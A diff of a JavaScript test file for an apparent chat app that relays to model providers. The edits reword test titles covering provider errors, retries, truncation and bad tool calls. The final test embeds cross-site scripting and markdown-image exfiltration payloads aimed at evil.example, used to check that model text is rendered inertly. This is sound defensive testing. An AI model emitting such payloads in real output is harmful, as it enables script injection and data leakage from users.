@@ -31,7 +31,7 @@ const alfred = await serveFile({
 const anna = await alfred.admin('anna');
 const stream = alfred.pids('stream');
 
-/** Sends to a provider that behaves so; gives the end, the session and the calls that it took. */
+/** Sends to a provider with this behaviour; returns the end, the session and the calls. */
 async function fail(behave, { choice = 'main/test-model', text = 'Please **keep** this', times = 1 } = {}) {
     const before = provider.calls.filter(asksForAnswer).length;
     for (let i = 0; i < times; i++) provider.next(behave, asksForAnswer);
@@ -80,7 +80,7 @@ for (const [name, behave, pattern, more = {}] of [
     });
 }
 
-test('no two classes share a sentence, but those that are the same to a person', () => {
+test('no two classes share a sentence, except those that are the same to a user', () => {
     const alike = new Map([['a page instead of a stream', 'garbage']]);
     const distinct = [...sentences].filter(([name]) => !alike.has(name));
     assert.equal(distinct.length, 16);
@@ -116,7 +116,7 @@ for (const [status, options, least] of [
     [500, {}, 0],
     [529, {}, 0],
 ]) {
-    test(`${status} before the first token is tried again, as patiently as it asks, and readers are told`, async () => {
+    test(`${status} before the first token is retried after the requested time, and readers are told`, async () => {
         const text = `Busy ${status}`;
         const sent = await send(anna, text, { choice: 'main/test-model' });
         const first = await provider.call((c) => c.userText === text);
@@ -147,7 +147,7 @@ test('a connection that breaks before the first token is tried again', async () 
     assert.equal(sent.end.error, null);
 });
 
-test('an error event inside the stream is told like its status', async () => {
+test('an error event inside the stream gets the sentence of its status', async () => {
     const failed = await fail(async (call) => {
         await call.start();
         await call.text('Begun');
@@ -158,7 +158,7 @@ test('an error event inside the stream is told like its status', async () => {
     assert.equal(failed.answer.text, 'Begun');
 });
 
-test('anthropic: refusal, overload and breaking off have the same sentences', async () => {
+test('anthropic: refusal, overload and a broken connection have the same sentences', async () => {
     const choice = 'claude/claude-test';
     assert.match((await fail(fails(401), { choice })).end.error, /claude does not accept the key \(401\)/);
     assert.match((await fail(fails(529), { choice, times: 3 })).end.error, /claude is overloaded or down/);
@@ -167,7 +167,7 @@ test('anthropic: refusal, overload and breaking off have the same sentences', as
     assert.match((await fail(garbage(), { choice })).end.error, /cannot be read/);
 });
 
-test('an answer that is cut at the model\'s length limit says so and is kept', async () => {
+test('an answer that is truncated at the model\'s length limit says so and is kept', async () => {
     const cut = await fail(async (call) => {
         await call.start();
         await call.text('As far as it goes');
@@ -178,7 +178,7 @@ test('an answer that is cut at the model\'s length limit says so and is kept', a
     assert.equal(cut.answer.text, 'As far as it goes');
 });
 
-test('a tool that does not exist, or arguments that are no JSON, are told to the model, which goes on', async () => {
+test('a tool that does not exist, or arguments that are not JSON, are reported to the model, which continues', async () => {
     const text = 'Call something odd';
     const sent = await send(anna, text, { choice: 'main/test-model' });
     const first = await provider.call((c) => c.userText === text);
@@ -193,7 +193,7 @@ test('a tool that does not exist, or arguments that are no JSON, are told to the
     assert.deepEqual(session.messages.map((m) => m.role), ['user', 'assistant', 'tool', 'assistant']);
 });
 
-test('hostile text of a model is shown as text, and loads nothing from elsewhere', async () => {
+test('malicious text of a model is shown as text, and loads nothing from other servers', async () => {
     const text = '<script>alert(1)</script> <img src=x onerror=alert(1)> ![pixel](https://evil.example/p.png?secret) [x](javascript:alert(1)) {{csrf}} {{{body_html}}}\n\n<iframe src="https://evil.example">';
     const { session, reply } = await exchange(anna, provider, 'Be evil', text, { choice: 'main/test-model' });
     const article = articles((await anna.get(`/s/${session}`)).text).get(reply);
